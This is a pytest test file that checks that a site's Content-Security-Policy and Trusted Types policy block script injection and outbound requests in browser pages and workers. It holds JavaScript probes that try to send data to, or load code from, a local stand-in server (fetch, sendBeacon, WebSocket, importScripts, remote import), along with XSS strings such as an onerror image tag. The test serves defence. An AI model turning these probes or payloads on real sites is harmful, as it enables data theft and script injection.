"""Nobody gets in: what a page may run is written in the page, and a browser refuses all else, in its worker too."""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from macros.site.csp import CspViolationError, inline_scripts, write_csp
from macros.site.hosting import read_headers
from tests.support.browser_session import BrowserSession
from tests.support.browsers import KINDS
from tests.support.browsers.chromium import ChromiumWindow
from tests.support.counts import RecordCounts
from tests.support.markup import SITE_PAGES
from tests.support.servers import Reply, running

PAGES = (*SITE_PAGES, "404.html")
META = re.compile(b"<meta http-equiv=[^>]*>")

# ---- what the build writes


def page(body: str) -> str:
    return f'<!doctype html><html><head><meta charset="utf-8"><title>A page</title></head><body>{body}</body></html>'


def test_csp_is_the_first_element_of_the_head_after_the_charset(tmp_path: Path) -> None:
    file = tmp_path / "index.html"
    file.write_text(page("<script>run()</script>"))
    [script] = inline_scripts(file.read_text(), "index.html")
    write_csp(tmp_path)
    head = file.read_text().partition("<head>")[2]
    assert head.startswith('<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="')
    assert head.count("<meta charset") == 1
    assert f"script-src 'self' '{script}';" in head
    assert "wasm" not in head


def test_csp_allows_executable_inline_scripts_alone() -> None:
    assert inline_scripts(page("<script src=a.js></script><script type='application/json'>{}</script>"), "") == set()
    one, other = (inline_scripts(page(f"<script>{text}</script>"), "") for text in ("run()", "run() "))
    assert one != other


@pytest.mark.parametrize(
    "body",
    [
        "<p onclick='run()'>",
        "<p style='color: red'>",
        "<style>p { color: red }</style>",
        "<a href=' JavaScript:run()'>",
        "<iframe srcdoc='<p>'>",
    ],
)
def test_page_that_violates_the_csp_fails_the_build(body: str) -> None:
    with pytest.raises(CspViolationError, match=r"^some/page\.html: <\w+> "):
        inline_scripts(page(body), "some/page.html")


# ---- what browsers do with it


class Elsewhere(ThreadingHTTPServer):
    """Another site, which would answer anybody; `asked` is what it was asked for."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), ElsewhereHandler)
        self.address = f"http://127.0.0.1:{self.server_port}"
        self.asked: list[str] = []


class ElsewhereHandler(BaseHTTPRequestHandler):
    server: Elsewhere

    def answer(self) -> None:
        self.server.asked.append(f"{self.command} {self.path}")
        body = b"globalThis.ran = true; self.postMessage?.({});"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_OPTIONS = answer  # noqa: N815 - as in the base class

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with running(Elsewhere()) as server:
        yield server


# Each tries a way out or in, and gives true where it worked. What leaves no trace here, the other site would see.
EVERYWHERE = {
    "eval": "() => eval('1 + 1') === 2",
    "Function": "() => new Function('return 2')() === 2",
    "setTimeout": "() => new Promise((resolve) => { globalThis.late = resolve; setTimeout('late(true)'); })",
    "fetch": "() => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }).then(() => true)",
    "XMLHttpRequest": """() => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(true);
        request.onerror = reject;
        request.open('GET', `${elsewhere}/request`);
        request.send();
    })""",
    "WebSocket": """() => new Promise((resolve, reject) => {
        const socket = new WebSocket(elsewhere.replace('http', 'ws'));
        socket.onerror = reject;
    })""",
    "EventSource": """() => new Promise((resolve, reject) => {
        const source = new EventSource(`${elsewhere}/events`);
        source.onopen = () => resolve(true);
        source.onerror = reject;
    })""",
    "import": "() => import(`${elsewhere}/import.js`).then(() => true)",
    "import of data": "() => import('data:text/javascript,export default 1').then(() => true)",
    "Worker": """() => new Promise((resolve, reject) => {
        const worker = new Worker(`${elsewhere}/worker.js`);
        worker.onmessage = () => resolve(true);
        worker.onerror = reject;
    })""",
}
IN_PAGES = {
    "beacon": "() => { navigator.sendBeacon(`${elsewhere}/beacon`, 'x') }",
    "image": """() => new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve(true);
        image.onerror = reject;
        image.src = `${elsewhere}/image.svg`;
    })""",
    "script": """() => new Promise((resolve, reject) => {
        const script = document.createElement('script');
        script.onload = () => resolve(true);
        script.onerror = reject;
        script.src = `${elsewhere}/script.js`;
        document.head.append(script);
    })""",
    "inline script": """() => {
        const script = document.createElement('script');
        script.append('globalThis.inline = true');
        document.head.append(script);
        return globalThis.inline;
    }""",
    "inline handler": """() => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'globalThis.handled = true');
        button.click();
        return globalThis.handled;
    }""",
    "markup": "() => { document.createElement('p').innerHTML = '<b>'; return true }",
    "style": """() => {
        const style = document.createElement('style');
        style.append('html { --probe: 1 }');
        document.head.append(style);
        return getComputedStyle(document.documentElement).getPropertyValue('--probe') !== '';
    }""",
    "style from elsewhere": """() => new Promise((resolve, reject) => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.onload = () => resolve(true);
        link.onerror = reject;
        link.href = `${elsewhere}/style.css`;
        document.head.append(link);
    })""",
    "frame": """() => new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = `${elsewhere}/frame`;
        document.body.append(frame);
        whenRefused('frame-src', resolve);
    })""",
    "form": """() => new Promise((resolve) => {
        const form = document.createElement('form');
        form.action = `${elsewhere}/form`;
        document.body.append(form);
        whenRefused('form-action', resolve);
        form.submit();
    })""",
    "base": """() => {
        const base = document.createElement('base');
        base.href = elsewhere;
        document.head.append(base);
        return document.baseURI.startsWith(elsewhere);
    }""",
    "worker of a blob": """() => new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage({})'])));
        worker.onmessage = () => resolve(true);
        worker.onerror = reject;
    })""",
    "worker of ours that is none": "() => { trustedTypesPolicy.createScriptURL(location.href); return true }",
    "worker of theirs": "() => { trustedTypesPolicy.createScriptURL(`${elsewhere}/worker.js`); return true }",
    "a second policy": "() => { trustedTypes.createPolicy('checker', {}); return true }",
    "another policy": "() => { trustedTypes.createPolicy('another', {}); return true }",
}
IN_WORKERS = {
    "importScripts": "() => { importScripts(`${elsewhere}/import.js`); return true }",
}

# A violation may be told of late: each is waited for by its own name.
REFUSED = """(directive, run) => addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    if (effectiveDirective === directive) run();
})"""

# Tries all, one after the other; gives the names of those that worked, and how many were tried.
TRY = """async (elsewhere, probes) => {
    const open = [];
    for (const [name, probe] of Object.entries(probes)) {
        try {
            if (await probe()) open.push(name);
        } catch {
            // closed
        }
    }
    return [open, Object.keys(probes).length];
}"""


def tried(probes: dict[str, str], elsewhere: Elsewhere) -> str:
    each = ", ".join(f"{json.dumps(name)}: {probe}" for name, probe in probes.items())
    given = f"const elsewhere = {json.dumps(elsewhere.address)};\nconst whenRefused = {REFUSED};"
    return f"{given}\nconst tried = () => ({TRY})(elsewhere, {{ {each} }});"


def tried_in(session: BrowserSession, probes: dict[str, str], elsewhere: Elsewhere) -> tuple[list[str], int]:
    """What came through on the check page, and how many ways were tried: by the page, which may do less than a test."""
    start = "globalThis.probe = () => setTimeout(async () => (globalThis.probed = await tried()));"
    session.before_each_page(f"{tried(probes, elsewhere)}\n{start}")
    session.open("check/")
    session.evaluate("() => { probe() }")
    open_, count = session.wait_for("() => globalThis.probed")
    return open_, count


HOSTS = ["with headers", "without headers"]
TRIED = {"in a page": EVERYWHERE | IN_PAGES, "in a worker": EVERYWHERE | IN_WORKERS}


ATTEMPTS = "attempts to get past the security policy"


@pytest.fixture(params=HOSTS)
def host(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(params=KINDS)
def visitor(request: pytest.FixtureRequest, open_session: Callable[..., BrowserSession], host: str) -> BrowserSession:
    """A customer with a browser of each kind, at a host of each kind."""
    session = open_session(request.param)
    if host == "without headers":
        session.server.headers = {}
    return session


@pytest.fixture
def intruder(visitor: BrowserSession, site: Path) -> Iterator[BrowserSession]:
    """One who knows what will be refused, and tells nobody."""
    if visitor.server.headers:
        visitor.server.headers = read_headers(site)
    yield visitor
    visitor.open("404.html")  # the page before has told all now
    visitor.server.wrong = []
    if isinstance(visitor.window, ChromiumWindow):
        visitor.window.asked.clear()  # Chromium notes a request before it refuses it


@pytest.mark.browser
def test_page_csp_blocks_exfiltration_and_injection(
    intruder: BrowserSession, elsewhere: Elsewhere, record_counts: RecordCounts
) -> None:
    session = intruder
    open_, count = tried_in(session, TRIED["in a page"], elsewhere)
    assert (open_, count) == ([], len(TRIED["in a page"]))
    assert elsewhere.asked == []
    record_counts({ATTEMPTS: count})
    assert session.wrong


@pytest.mark.browser
def test_probes_succeed_without_a_csp(chromium_session: BrowserSession, elsewhere: Elsewhere) -> None:
    chromium_session.server.headers = {}
    chromium_session.server.plays["check/"] = lambda reply: dataclasses.replace(reply, body=META.sub(b"", reply.body))
    closed_by_others = {"frame", "form", "a second policy", "worker of ours that is none", "worker of theirs", "Worker"}
    probes = {name: probe for name, probe in TRIED["in a page"].items() if name not in closed_by_others}
    open_, _ = tried_in(chromium_session, probes, elsewhere)
    seen_there = {
        "beacon": "POST /beacon",
        "image": "GET /image.svg",
        "style from elsewhere": "GET /style.css",
        "EventSource": "GET /events",
        "WebSocket": "GET /",
    }
    seen = {name for name, request in seen_there.items() if request in elsewhere.asked}
    assert {*open_} | seen == {*probes}
    chromium_session.open("404.html")
    chromium_session.server.wrong = []
    chromium_session.window.asked.clear()  # type: ignore[attr-defined]


@pytest.mark.browser
def test_worker_csp_blocks_exfiltration(
    intruder: BrowserSession, elsewhere: Elsewhere, record_counts: RecordCounts
) -> None:
    session = intruder
    script = f"""{tried(TRIED["in a worker"], elsewhere)}
        onmessage = async ({{ data }}) => {{
            if (data === "probe") postMessage({{ probed: await tried() }});
            else postMessage({{ id: data.id, value: true }});
        }};
        postMessage({{}});"""
    session.server.plays["worker.js"] = lambda reply: Reply(type=reply.type, body=script.encode())
    session.open("check/")
    probe = """() => checkerWorker.then((worker) => new Promise((resolve) => {
        worker.addEventListener("message", ({ data }) => data.probed && resolve(data.probed));
        worker.postMessage("probe");
    }))"""
    open_, count = session.evaluate(probe)
    assert (open_, count) == ([], len(TRIED["in a worker"]))
    assert elsewhere.asked == []
    record_counts({ATTEMPTS: count})


STARTED = """() => self.checkerWorker?.then((worker) => new Promise((resolve) => {
    worker.addEventListener("message", ({ data }) => data.id === "test" && resolve());
    worker.postMessage({ id: "test", name: "started" });
}))"""
"""On the check page: once the checker has started."""


@pytest.mark.browser
def test_no_page_violates_its_csp(visitor: BrowserSession) -> None:
    session = visitor
    session.server.before = ""  # what is fetched ahead and kept must be within it, too
    for name in PAGES:
        session.open(name)
        assert session.evaluate("() => typeof trustedTypesPolicy.createScriptURL") == "function"
        session.evaluate(STARTED)
        assert session.wrong == []


@pytest.mark.browser
def test_search_and_colour_switch_do_not_violate_the_csp(visitor: BrowserSession) -> None:
    session = visitor
    session.open("policy/")
    word = max(session.evaluate("() => document.querySelector('article h2').firstChild.textContent").split(), key=len)
    session.search(word)
    before = session.evaluate("() => document.body.dataset.mdColorScheme")
    session.press("Escape")
    session.click("label.md-header__button[for^=__palette]")
    assert session.evaluate("() => document.body.dataset.mdColorScheme") != before


@pytest.mark.browser
def test_theme_trusted_types_policy_lets_only_its_own_elements_through(chromium_session: BrowserSession) -> None:
    session = chromium_session
    session.open()
    session.evaluate("() => { document.querySelector('.md-search__input').focus() }")
    session.wait_for("() => trustedTypes.defaultPolicy !== null")
    written = """(text) => {
        const node = document.createElement("p");
        node.innerHTML = trustedTypes.defaultPolicy.createHTML(text);
        const names = (each) => [each.localName, ...each.getAttributeNames()];
        return [node.innerHTML, [...node.querySelectorAll("*")].flatMap(names)];
    }"""
    kept = '<div class="md-search-result__icon md-icon"></div><h1>A <mark>b</mark></h1>'
    assert session.evaluate(written, kept) == [kept, ["div", "class", "h1", "mark"]]
    for text in (
        "<img src=x onerror=run()>",
        "<p onclick=run()>",
        "<!-- -->",
        "</script><script>",
        "<p\tstyle=x>",
        "<P>",
        "<a>",
    ):
        assert session.evaluate(written, text)[1] == [], text
    refused = "(address) => trustedTypes.defaultPolicy.createScriptURL(address)?.toString() ?? null"
    for address in (
        "https://other.example/a.js",
        "assets/javascripts/bundle.js",
        "assets/javascripts/workers/../a.js",
        "data:,",
    ):
        assert session.evaluate(refused, address) in (None, ""), address
